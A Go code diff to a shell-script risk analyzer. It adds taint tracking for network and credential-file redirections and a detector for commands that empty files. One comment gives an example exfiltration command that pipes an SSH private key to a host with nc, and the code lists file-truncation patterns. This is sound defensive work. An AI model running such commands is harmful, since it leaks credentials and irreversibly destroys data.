@@ -51,12 +51,19 @@ func (w *walker) redirects(rs []*syntax.Redirect, in stream) (stream, []raise, [
 			switch r.Op {
 			case syntax.RdrIn:
 				st := stream{present: true, taint: target.taint}
+				if l.path == "/dev/null" {
+					st.exact = true // reads nothing: sh < /dev/null runs nothing
+				}
 				if isNetDev(l.path) || w.sh.downloaded[l.path] {
 					st.taint |= taintDownload
 				}
 				if isNetDev(l.path) {
 					add(Confirm, netWhy)
 				}
+				if t, _ := exfilLoc(l); t != 0 {
+					st.taint |= t // nc host 1 < ~/.ssh/id_rsa sends it
+				}
+				st.taint |= w.sh.leaked[l.path]
 				stdin = st
 				if why := secretLoc(l); why != "" {
 					add(Confirm, "reads "+display(target.s)+" ("+why+")")
@@ -73,6 +80,9 @@ func (w *walker) redirects(rs []*syntax.Redirect, in stream) (stream, []raise, [
 				}
 				add(w.writeEffect(target, l))
 				written = append(written, l.path)
+				if _, seen := w.sh.wrote[l.path]; !seen && (r.Op == syntax.AppOut || r.Op == syntax.AppAll || r.Op == syntax.RdrInOut) {
+					w.sh.wrote[l.path] = unknownMark + "\n" // what the file held before is not known
+				}
 			}
 		}
 	}
@@ -130,6 +140,74 @@ func quotedDelim(word *syntax.Word) bool {
 				}
 			}
 		}
+	}
+	return false
+}
+
+// truncations finds a statement that empties a file: a > redirection of
+// nothing (> f, : > f, true > f, cat /dev/null > f, echo -n > f,
+// printf "" > f). What the file held is gone without a way back.
+func (w *walker) truncations(s *syntax.Stmt) []raise {
+	var out []raise
+	for _, r := range s.Redirs {
+		if r.Op != syntax.RdrOut && r.Op != syntax.ClbOut && r.Op != syntax.RdrAll {
+			continue
+		}
+		if (r.N != nil && r.N.Value != "1") || !w.printsNothing(s.Cmd) {
+			continue
+		}
+		for _, t := range w.targets(r.Word) {
+			if t.proc || isSink(w.resolve(t.s).path) || isNetDev(w.resolve(t.s).path) {
+				continue
+			}
+			out = append(out, raise{Dangerous, levelPart, "empties " + display(t.s)})
+		}
+	}
+	return out
+}
+
+// printsNothing reports a command whose output is empty (or one blank
+// line): no command at all, :, true, false, cat /dev/null, echo, echo -n,
+// printf "".
+func (w *walker) printsNothing(cmd syntax.Command) bool {
+	if cmd == nil {
+		return true
+	}
+	ce, ok := cmd.(*syntax.CallExpr)
+	if !ok || len(ce.Args) == 0 {
+		return ok
+	}
+	alts := w.expand(ce.Args[0])
+	if len(alts) != 1 || len(alts[0]) != 1 {
+		return false
+	}
+	var rest []string
+	for _, a := range ce.Args[1:] {
+		as := w.expand(a)
+		if len(as) != 1 {
+			return false
+		}
+		for _, f := range as[0] {
+			if !f.known() {
+				return false
+			}
+			rest = append(rest, f.s)
+		}
+	}
+	switch progName(alts[0][0].s) {
+	case ":", "true", "false":
+		return true
+	case "cat":
+		return len(rest) == 1 && rest[0] == "/dev/null"
+	case "echo":
+		for _, a := range rest {
+			if a != "-n" && a != "" && a != "-e" && a != "-ne" {
+				return false
+			}
+		}
+		return true
+	case "printf":
+		return len(rest) == 1 && rest[0] == ""
 	}
 	return false
 }
